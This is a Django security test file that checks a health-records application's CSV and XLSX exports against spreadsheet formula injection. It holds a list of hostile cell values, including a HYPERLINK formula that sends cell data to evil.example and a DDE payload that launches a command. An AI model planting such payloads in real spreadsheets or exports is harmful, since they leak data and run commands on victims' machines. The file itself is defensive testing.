"""Exports never hand a spreadsheet a formula to run (OWASP CSV injection), and nothing stored changes: CSV cells
that start with = + - @ get a leading quote, XLSX cells are written as text; the API shows the value as stored."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client

from healthlinks.interchange.tabular.writer import write_table
from healthlinks.network.models import PersonalData
from healthlinks.registry.models import Institution
from tests.security.test_permission_matrix import _clients
from tests.security.world import build_world

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"]


def _xlsx_sheet(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_csv_cells_that_would_run_get_a_quote_and_numbers_stay_numbers():
    body = write_table(["value", "amount"], [[h, -5] for h in HOSTILE] + [["plain", 3]], "csv").decode()
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert [r[0] for r in rows] == ["'" + h for h in HOSTILE] + ["plain"]
    assert {r[1] for r in rows} == {"-5", "3"}


def test_xlsx_cells_that_would_run_are_text_cells_with_the_value_unchanged():
    from openpyxl import load_workbook

    body = write_table(["value"], [[h] for h in HOSTILE], "xlsx")
    assert "<f>" not in _xlsx_sheet(body)
    sheet = load_workbook(io.BytesIO(body)).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == HOSTILE


@pytest.mark.django_db
def test_every_export_a_user_downloads_is_neutralised_but_the_api_shows_the_stored_value():
    world = build_world()
    clients = _clients(world)
    PersonalData.objects.filter(person__pseudo_id=world["ids"]["person"]).update(given_name=HOSTILE[0])
    Institution.objects.filter(pk=world["ids"]["institution"]).update(name=HOSTILE[4])
    coordinator, admin = clients["coordinator"], clients["hub_admin"]

    people_csv = coordinator.get("/export/people.csv").content.decode()
    assert "'" + HOSTILE[0].replace('"', '""') in people_csv
    assert "\n" + HOSTILE[0][:5] not in people_csv and "," + HOSTILE[0][:5] not in people_csv
    assert "<f>" not in _xlsx_sheet(coordinator.get("/export/people.xlsx").content)
    institutions_csv = coordinator.get("/export/institutions.csv").content.decode()
    assert "'" + HOSTILE[4] in institutions_csv

    archive = admin.get("/research/export.zip")
    assert archive.status_code == 200
    body = b"".join(archive.streaming_content) if archive.streaming else archive.content
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        texts = {n: z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".csv")}
    holding = [n for n, t in texts.items() if "calc" in t]
    assert holding, "the hostile institution name should be in the research export"
    for name in holding:
        for line in texts[name].splitlines():
            for cell in next(csv.reader([line])):
                assert not cell.startswith(("=", "+", "@")), (name, cell)

    api = Client()
    api.force_login(world["users"]["coordinator"], backend="django.contrib.auth.backends.ModelBackend")
    assert api.get(f"/api/v1/people/{world['ids']['person']}/").json()["given_name"] == HOSTILE[0]
